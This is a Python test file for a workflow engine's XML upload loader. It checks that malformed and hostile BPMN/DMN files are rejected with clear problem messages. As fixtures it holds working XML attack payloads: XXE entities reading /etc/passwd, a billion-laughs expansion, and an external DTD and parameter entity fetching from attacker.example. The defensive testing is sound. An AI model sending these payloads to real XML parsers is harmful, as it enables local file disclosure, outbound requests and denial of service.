"""Hostile and broken XML uploads are refused with a problem, never parsed into danger or a traceback."""

from __future__ import annotations

import pytest

from engine.handlers import HandlerRegistry
from engine.workflow.parsing import ModelRejected, SourceFile, parse_models
from engine.workflow.xmlsafe import XmlRejected, load_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</definitions>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<d/>"""
UTF16_XXE = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'


def problem_of(content: bytes, name: str = "x.bpmn", max_bytes: int = 100_000) -> str:
    with pytest.raises(XmlRejected) as info:
        load_xml(name, content, max_bytes=max_bytes)
    return str(info.value.problem)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (XXE, "x.bpmn:2: -: DOCTYPE declares entities"),
        (LAUGHS, "x.bpmn:3: -: DOCTYPE declares entities"),
        (PARAMETER_ENTITY, "x.bpmn:2: -: DOCTYPE declares entities"),
        (EXTERNAL_DTD, "x.bpmn:2: -: DOCTYPE refers to an external DTD"),
        (UTF16_XXE.encode("utf-16"), "x.bpmn:1: -: DOCTYPE declares entities"),
        (b"this is not xml", "x.bpmn:1: -: not well-formed XML"),
        (b"<a>\n<b>\n</a>", "x.bpmn:3: -: not well-formed XML"),
        (b"", "x.bpmn:0: -: file is empty"),
        (b"  \n ", "x.bpmn:0: -: file is empty"),
    ],
)
def test_hostile_or_broken_xml_is_refused(content: bytes, expected: str) -> None:
    assert problem_of(content).startswith(expected)


def test_size_limit_checked_before_parsing() -> None:
    assert (
        problem_of(b"<a>" + b" " * 200 + b"</a>", max_bytes=100)
        == "x.bpmn:0: -: file is 207 bytes, limit is 100"
    )


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("x.bpmn", b"<html><body/></html>", "x.bpmn:1: -: root element is html, expected"),
        (
            "x.dmn",
            b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
            "x.dmn:1: -: root element",
        ),
        ("x.txt", b"hello", "x.txt:0: -: unsupported file type"),
        ("x.json", b"{", "x.json:1: -: form file is not valid JSON"),
        ("x.bpmn", XXE, "x.bpmn:2: -: DOCTYPE declares entities"),
    ],
)
def test_parse_models_reports_file_problems(name: str, content: bytes, expected: str) -> None:
    with pytest.raises(ModelRejected) as info:
        parse_models([SourceFile(name, content)], max_bytes=10_000, handlers=HandlerRegistry())
    assert str(info.value.problems[0]).startswith(expected)
    assert info.value.details[0]["file"] == name
    assert info.value.message == "1 problem in model files"


def test_oversized_upload_rejected_without_parsing() -> None:
    big = b"<definitions>" + b"x" * 5000 + b"</definitions>"
    with pytest.raises(ModelRejected) as info:
        parse_models([SourceFile("big.bpmn", big)], max_bytes=1000, handlers=HandlerRegistry())
    assert info.value.problems[0].message == f"file is {len(big)} bytes, limit is 1000"
